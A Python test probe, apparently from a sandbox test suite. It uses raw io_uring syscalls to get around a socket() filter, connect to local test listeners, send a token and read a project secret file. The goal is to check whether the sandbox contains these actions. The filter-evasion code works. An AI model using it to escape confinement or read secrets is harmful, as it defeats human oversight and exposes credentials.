"""Get around a socket() filter with io_uring: IORING_OP_SOCKET + CONNECT + SEND, and OPENAT.

Raw syscalls through ctypes (x86_64: io_uring_setup 425, io_uring_enter 426). Connects to the
test's TCP listeners on 127.0.0.1 and this machine's own address, its path and abstract unix
sockets, and opens + reads the runner's project secret with IORING_OP_OPENAT/READ.
A setup that fails (EPERM, ENOSYS) means every flag stays 0.
Row 0 (leaks): one flag per target reached. Row 1 (info): [io_uring_setup succeeded].
Contained: row 0 all 0, and no listener receives anything.
"""

import ctypes
import socket
import struct

CONFIG: dict = {}  # filled in by tests/sandbox_modes.py
CASE = ""  # filled in by tests/sandbox_modes.py
LEAKS = ("uring-tcp-127.0.0.1", "uring-tcp-own-address", "uring-unix-path",
         "uring-unix-abstract", "uring-openat-secret")  # fmt: skip
INFO = ("io_uring-setup",)
OP_CONNECT, OP_OPENAT, OP_READ, OP_SEND, OP_SOCKET = 16, 18, 22, 26, 45


class Ring:
    def __init__(self):
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        self.libc = libc
        params = ctypes.create_string_buffer(120)
        fd = libc.syscall(ctypes.c_long(425), ctypes.c_long(8), params)
        if fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        self.fd = fd
        sq_entries, cq_entries = struct.unpack_from("II", params, 0)
        sq = struct.unpack_from(
            "IIIIIIIIQ", params, 40
        )  # head tail mask entries flags dropped array
        cq = struct.unpack_from("IIIIIIIIQ", params, 80)  # head tail mask entries overflow cqes
        self.sq_head, self.sq_tail, self.sq_mask, _, _, _, self.sq_array = sq[:7]
        self.cq_head, self.cq_tail, self.cq_mask, _, _, self.cqes = cq[:6]
        # mmap through libc: the mmap module may not be importable where library folders are
        # not mounted (it is an extension module, not preloaded)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                              ctypes.c_int, ctypes.c_long]  # fmt: skip

        def ring(size, offset):
            addr = libc.mmap(None, size, 3, 1, fd, offset)  # PROT_READ|WRITE, MAP_SHARED
            if addr in (None, ctypes.c_void_p(-1).value):
                raise OSError(ctypes.get_errno(), "mmap")
            return (ctypes.c_char * size).from_address(addr)

        self.sq = ring(self.sq_array + sq_entries * 4, 0)
        self.cq = ring(self.cqes + cq_entries * 16, 0x8000000)
        self.sqes = ring(sq_entries * 64, 0x10000000)
        self.sq_mask = struct.unpack_from("I", self.sq, self.sq_mask)[0]  # offsets -> values
        self.cq_mask = struct.unpack_from("I", self.cq, self.cq_mask)[0]

    def op(self, opcode, fd=0, off=0, addr=0, length=0, op_flags=0):
        """Submit one SQE and wait for its completion; returns cqe.res."""
        sqe = struct.pack("BBHiQQIIQHHiQQ", opcode, 0, 0, fd, off, addr, length, op_flags, 7,
                          0, 0, 0, 0, 0)  # fmt: skip
        ctypes.memmove(self.sqes, sqe, 64)
        tail = struct.unpack_from("I", self.sq, self.sq_tail)[0]
        struct.pack_into("I", self.sq, self.sq_array + (tail & self.sq_mask) * 4, 0)
        struct.pack_into("I", self.sq, self.sq_tail, tail + 1)
        n = self.libc.syscall(ctypes.c_long(426), ctypes.c_long(self.fd), ctypes.c_long(1),
                              ctypes.c_long(1), ctypes.c_long(1), None, ctypes.c_long(0))  # fmt: skip
        if n < 0:
            return -ctypes.get_errno()
        head = struct.unpack_from("I", self.cq, self.cq_head)[0]
        _, res, _ = struct.unpack_from("QiI", self.cq, self.cqes + (head & self.cq_mask) * 16)
        struct.pack_into("I", self.cq, self.cq_head, head + 1)
        return res


def _reach(ring, family, sockaddr):
    fd = ring.op(OP_SOCKET, fd=family, off=socket.SOCK_STREAM)
    if fd < 0:
        return 0
    addr = ctypes.create_string_buffer(sockaddr, len(sockaddr))
    ok = ring.op(OP_CONNECT, fd=fd, addr=ctypes.addressof(addr), off=len(sockaddr)) == 0
    if ok:
        msg = ctypes.create_string_buffer(b"leak " + CONFIG["token"].encode())
        ring.op(OP_SEND, fd=fd, addr=ctypes.addressof(msg), length=len(msg.raw) - 1)
    ring.libc.close(fd)
    return int(ok)


def _inet(ip, port):
    return (
        struct.pack("=H", socket.AF_INET)
        + struct.pack("!H", port)
        + socket.inet_aton(ip)
        + bytes(8)
    )


def _unix(raw):
    return struct.pack("=H", socket.AF_UNIX) + raw


def _openat(ring, path):
    p = ctypes.create_string_buffer(path.encode())
    fd = ring.op(OP_OPENAT, fd=-100, addr=ctypes.addressof(p), op_flags=0)
    if fd < 0:
        return 0
    buf = ctypes.create_string_buffer(4096)
    n = ring.op(OP_READ, fd=fd, addr=ctypes.addressof(buf), length=4096, off=0)
    ring.libc.close(fd)
    return int(n > 0 and b"PROJECT_SECRET=" in buf.raw[:n])


def transform(grid):
    try:
        ring = Ring()
    except OSError:
        return [[0, 0, 0, 0, 0], [0, 0, 0, 0, 0]]
    net = CONFIG["net"][CASE]
    flags = [
        _reach(ring, socket.AF_INET, _inet("127.0.0.1", net["tcp_lo"])),
        _reach(ring, socket.AF_INET, _inet(net["own_ip"], net["tcp_own"])),
        _reach(ring, socket.AF_UNIX, _unix(net["unix_path"].encode() + b"\0")),
        _reach(ring, socket.AF_UNIX, _unix(b"\0" + net["unix_abstract"].encode())),
        _openat(ring, CONFIG["secret_path"]),
    ]
    return [flags, [1, 0, 0, 0, 0]]
